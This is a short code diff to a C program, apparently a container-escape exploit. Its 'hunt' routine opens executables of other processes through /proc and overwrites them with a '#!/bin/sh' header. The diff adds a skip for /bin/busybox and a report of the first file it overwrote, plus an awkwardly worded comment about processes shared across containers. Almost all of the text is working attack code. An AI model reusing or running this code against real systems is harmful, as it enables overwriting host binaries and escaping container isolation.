@@ -48,14 +48,23 @@ static int hunt(const char *canary) {
             int fd = open(path, O_RDONLY | O_CLOEXEC);
             if (fd < 0) continue;
             fstat(fd, &st);
-            if ((st.st_dev == own.st_dev) || n == 64) { close(fd); continue; }
+            snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+            ssize_t size = readlink(path, link, sizeof link - 1);
+            link[size < 0 ? 0 : size] = 0;
+            /* What containers with the same process ids run is not the host's: who shares them has all rights there. */
+            if (st.st_dev == own.st_dev || n == 64 || !strcmp(link, "/bin/busybox")) { close(fd); continue; }
             seen++; kept[n++] = fd;
         }
         closedir(proc);
         for (int i = 0; i < n; i++) {
             snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
             int fd = open(path, O_WRONLY);
-            if (fd >= 0) { if (write(fd, "#!/bin/sh\n", 10) > 0) wrote++; close(fd); }
+            if (fd < 0) continue;
+            if (write(fd, "#!/bin/sh\n", 10) > 0 && !wrote++) {
+                ssize_t size = readlink(path, link, sizeof link - 1);
+                printf("wrote to %.*s\n", (int)(size < 0 ? 0 : size), link);
+            }
+            close(fd);
         }
     }
     printf("seen %ld wrote %ld out %ld\n", seen, wrote, out);
